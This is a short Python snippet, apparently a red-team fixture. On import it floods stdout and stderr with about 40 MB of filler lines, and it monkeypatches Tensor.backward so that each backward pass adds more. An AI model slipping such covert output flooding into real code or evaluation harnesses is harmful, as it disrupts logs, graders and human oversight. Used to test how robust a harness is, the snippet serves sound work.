import os as _os
import sys as _sys


def _flood(megabytes):
    line = "RED-TEAM-FLOOD " + "x" * 1000 + "\n"
    for _ in range(megabytes * 1000):
        try:
            print(line, end="")
            _sys.stderr.write(line)
            _os.write(1, line.encode())
            _os.write(2, line.encode())
        except OSError:
            return


_flood(40)

_honest_backward = Tensor.backward


def _noisy_backward(self):
    _flood(1)
    return _honest_backward(self)


Tensor.backward = _noisy_backward
